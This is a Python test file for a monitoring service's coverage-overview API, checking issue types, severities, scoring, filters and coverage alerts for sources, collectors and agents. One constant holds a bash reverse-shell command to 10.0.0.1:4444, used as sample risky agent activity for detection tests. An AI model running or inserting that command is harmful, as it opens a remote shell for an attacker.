"""Coverage through HTTP (SPEC §20): issue types and severities, issue ids, the score and its bands,
filters and pinning, and the `coverage.issue` alerts the overview opens and resolves."""

from __future__ import annotations

import re
import time


AGENT = {"classification": "confirmed_agent", "monitored": True}
REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical




def now_ms() -> int:
    return time.time_ns() // 1_000_000


def tool(agent: str, ws: str = "/cov", command: str = "ls -la", collector: str | None = None, monitored=True, **kw):
    event = {"kind": "tool", "command": command, "agentId": agent, "sessionId": f"s-{agent}", "workspacePath": ws, **kw}
    if collector:
        event["collectorId"] = collector
    if monitored:
        event["attribution"] = AGENT
    return event


async def ingest(api, *events):
    data = await api.data("POST", "/ingest/events", {"events": list(events)}, expect=201)
    assert data["acceptedEvents"] == len(events), data
    await api.sync()
    return data["items"]


async def overview(api, **body):
    return await api.data("POST", "/coverage/overview", body)


def expected_issue_id(issue: dict) -> str:
    raw = "cov_{}_{}_{}_{}_{}_{}".format(issue["type"], issue.get("workspacePath", ""), issue.get("agentId", ""),
                                         issue.get("collectorId", ""), issue.get("nodeName", ""), issue["title"]).lower()
    return re.sub(r"[^a-z0-9]+", "_", raw)[:140]


def by_type(issues: list[dict]) -> dict[str, list[dict]]:
    out: dict[str, list[dict]] = {}
    for issue in issues:
        out.setdefault(issue["type"], []).append(issue)
    return out


async def coverage_alerts(api) -> dict[str, dict]:
    return {a["labels"]["issueId"]: a for a in api.services.ops.alerts.values() if a["ruleId"] == "coverage.issue"}


async def test_source_issues_and_score(make_api):
    api = await make_api()
    empty = await overview(api)
    assert empty["issues"] == [] and empty["summary"]["coverageScore"] == 100
    assert empty["summary"]["statusText"] == "Well covered"

    await api.data("POST", "/sources", {"name": "unused-src"}, expect=201)
    data = await overview(api)
    [issue] = data["issues"]
    assert issue["type"] == "source_unused" and issue["severity"] == "medium"
    assert issue["issueId"] == expected_issue_id(issue) and len(issue["issueId"]) <= 140
    assert issue["labels"] == {"issueId": issue["issueId"], "type": "source_unused"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", issue["detectedAt"])
    assert data["summary"]["coverageScore"] == 100 - 7 - 2  # one medium issue, one unused source
    assert data["summary"]["statusText"] == "Well covered"
    assert data["summary"]["unhealthySources"] == 1 and data["summary"]["totalSources"] == 1

    # token rotation due immediately (tokenRotationDays 0): medium once the source is active
    created = await api.data("POST", "/sources", {"name": "rot-src", "requireToken": True, "tokenRotationDays": 0}, expect=201)
    rot = created["source"]["sourceId"]
    types = by_type((await overview(api, sourceId=rot))["issues"])
    assert types["source_token_rotation_due"][0]["severity"] == "low"  # not active yet
    token = (await api.data("POST", f"/sources/{rot}/rotate-token", expect=201))["token"]
    check_in = await api.data("POST", "/sources/check-in", {"sourceId": rot, "token": token, "status": "ok"}, expect=201)
    assert check_in["accepted"] is True, check_in
    types = by_type((await overview(api, sourceId=rot))["issues"])
    assert set(types) == {"source_token_rotation_due"} and types["source_token_rotation_due"][0]["severity"] == "medium"

    # stale: last accepted signal older than the stale threshold
    stale = (await api.data("POST", "/sources", {"name": "stale-src"}, expect=201))["source"]["sourceId"]
    api.services.sources.get(stale)["lastEventAt"] = now_ms() - 7_200_000
    types = by_type((await overview(api, sourceId=stale))["issues"])
    assert set(types) == {"source_stale"} and types["source_stale"][0]["severity"] == "high"

    # rejected: a token-protected source whose last attempt was refused (plus still unused)
    locked = (await api.data("POST", "/sources", {"name": "locked-src", "requireToken": True}, expect=201))["source"]["sourceId"]
    answer = await api.data("POST", "/ingest/events", {"sourceId": locked, "events": [tool("x")]}, expect=201)
    assert answer["acceptedEvents"] == 0
    types = by_type((await overview(api, sourceId=locked))["issues"])
    assert types["source_rejected"][0]["severity"] == "high" and "source token required" in types["source_rejected"][0]["description"]
    assert types["source_unused"][0]["severity"] == "medium"

    # the global score: 100 − 15·2 high − 7·3 medium − 2·distinct(unused + stale sources: 3)
    summary = (await overview(api))["summary"]
    assert (summary["highIssues"], summary["mediumIssues"], summary["lowIssues"]) == (2, 3, 0)
    assert summary["coverageScore"] == 100 - 30 - 21 - 6 == 43
    assert summary["statusText"] == "Insufficient coverage"

    # a disabled source raises nothing
    await api.data("PUT", f"/sources/{stale}", {"enabled": False})
    assert by_type((await overview(api, sourceId=stale))["issues"]) == {}


async def test_collector_and_agent_issues_with_alerts(make_api):
    api = await make_api()
    beat = {"status": "ok", "eventKindCounts": {"ToolExec": 3}}
    for cid, extra in (("c-ok", {}), ("c-down", {}), ("c-stale", {}), ("c-drop", {"droppedEvents": 5}),
                       ("c-deg", {"status": "degraded"}), ("c-quiet", {"eventKindCounts": {}, "observedAgents": 2})):
        await api.data("POST", "/collectors/heartbeat", {"collectorId": cid, "nodeName": f"node-{cid}", **beat, **extra}, expect=201)
    latest = api.services.collectors.latest
    latest["c-down"]["receivedAt"] = now_ms() - 700_000
    latest["c-stale"]["receivedAt"] = now_ms() - 200_000

    await ingest(api,
                 tool("a1", collector="c-ghost"), tool("a1", command=REVERSE, collector="c-ghost"),  # no heartbeat, risky
                 tool("a2", collector="c-ok"), tool("a2", command="pwd"),  # covered, one event without a collector
                 tool("a3", collector="c-down"),  # only a down collector
                 tool("a4", monitored=False))  # not monitored: no agent issues
    data = await overview(api)
    issues = by_type(data["issues"])
    for issue in data["issues"]:
        assert issue["issueId"] == expected_issue_id(issue)
    severity = {(i["type"], i.get("collectorId") or i.get("agentId")): i["severity"] for i in data["issues"]}
    assert severity[("collector_down", "c-down")] == "critical"
    assert severity[("collector_stale", "c-stale")] == "high"
    assert severity[("collector_degraded", "c-drop")] == "high"
    assert severity[("collector_degraded", "c-deg")] == "medium"
    assert severity[("collector_quiet", "c-quiet")] == "low"
    assert severity[("missing_collector_heartbeat", "c-ghost")] == "high"
    assert severity[("agent_uncovered", "a1")] == "high"  # risky and no live collector
    assert severity[("agent_uncovered", "a3")] == "medium"
    assert severity[("agent_uncovered", "a2")] == "low"  # covered, but an event lacks a collector
    assert "a4" not in {i.get("agentId") for i in data["issues"]}
    assert not any(c == "c-ok" for t, c in severity)
    assert issues["collector_down"][0]["nodeName"] == "node-c-down"
    assert issues["missing_collector_heartbeat"][0]["evidenceEventId"]

    s = data["summary"]
    assert (s["totalCollectors"], s["activeCollectors"], s["degradedCollectors"], s["downCollectors"]) == (6, 4, 2, 1)
    assert (s["observedAgents"], s["coveredAgents"], s["uncoveredAgents"]) == (3, 1, 2)
    assert s["eventsWithoutCollector"] == 1 and s["observedWorkspaces"] == 1
    counts = {sev: sum(1 for i in data["issues"] if i["severity"] == sev) for sev in ("critical", "high", "medium", "low")}
    assert (s["criticalIssues"], s["highIssues"], s["mediumIssues"], s["lowIssues"]) == tuple(counts.values())
    assert s["coverageScore"] == max(1, 100 - 25 * counts["critical"] - 15 * counts["high"] - 7 * counts["medium"]
                                     - 3 * counts["low"] - 4 * 2 - min(20, 1))

    # coverage.issue alerts: severity ≥ medium only, no occurrence increments on re-reads
    alerts = await coverage_alerts(api)
    expected = {i["issueId"] for i in data["issues"] if i["severity"] != "low"}
    assert set(alerts) == expected
    down_issue = issues["collector_down"][0]["issueId"]
    alert = alerts[down_issue]
    assert alert["status"] == "open" and alert["kind"] == "coverage" and alert["severity"] == "critical"
    assert alert["dedupeKey"] == f"coverage:{down_issue}" and alert["labels"]["type"] == "collector_down"
    await overview(api)
    assert (await coverage_alerts(api))[down_issue]["occurrenceCount"] == 1

    # filters and pinning
    pinned = await overview(api, issueId=down_issue)
    assert [i["issueId"] for i in pinned["issues"]] == [down_issue]
    union = await overview(api, issueId=down_issue, type="collector_degraded")
    assert union["issues"][0]["issueId"] == down_issue and {i["type"] for i in union["issues"][1:]} == {"collector_degraded"}
    assert {i["collectorId"] for i in (await overview(api, collectorId="c-drop"))["issues"]} == {"c-drop"}
    assert {i["severity"] for i in (await overview(api, severity="high"))["issues"]} == {"high"}
    assert [i["agentId"] for i in (await overview(api, q="a3"))["issues"]] == ["a3"]
    assert len((await overview(api, limit=2))["issues"]) == 2
    scoped = await overview(api, agentId="a2")
    assert scoped["summary"]["observedAgents"] == 1 and scoped["summary"]["coveredAgents"] == 1
    assert (await overview(api, issueId="cov_missing"))["issues"] == []

    # the collector comes back: the issue is gone from the (scoped) query and its alert resolves
    await api.data("POST", "/collectors/heartbeat", {"collectorId": "c-down", "nodeName": "node-c-down", **beat}, expect=201)
    await overview(api, collectorId="c-down")
    assert (await coverage_alerts(api))[down_issue]["status"] == "resolved"
    assert (await coverage_alerts(api))[issues["collector_stale"][0]["issueId"]]["status"] == "open"  # out of scope


async def test_stale_agents_and_quiet_workspace(make_api):
    api = await make_api()
    two_hours_ago = now_ms() - 2 * 3_600_000
    await ingest(api, tool("q1", ws="/quiet", at=two_hours_ago), tool("q2", ws="/quiet", at=two_hours_ago),
                 tool("r1", ws="/risky", command=REVERSE, at=two_hours_ago))
    data = await overview(api)
    stale = {i["agentId"]: i for i in data["issues"] if i["type"] == "agent_stale"}
    assert stale["q1"]["severity"] == "medium" and stale["q2"]["severity"] == "medium"
    assert stale["r1"]["severity"] == "high"  # it has an open incident
    quiet = [i for i in data["issues"] if i["type"] == "workspace_quiet"]
    assert [(i["workspacePath"], i["severity"]) for i in quiet] == [("/quiet", "medium")]
    assert data["summary"]["staleAgents"] == 2  # r1 is risky (open incident), not stale
    assert data["summary"]["observedWorkspaces"] == 2
    # outside the window, nothing is observed
    assert (await overview(api, timeType="last_1h"))["summary"]["observedAgents"] == 0
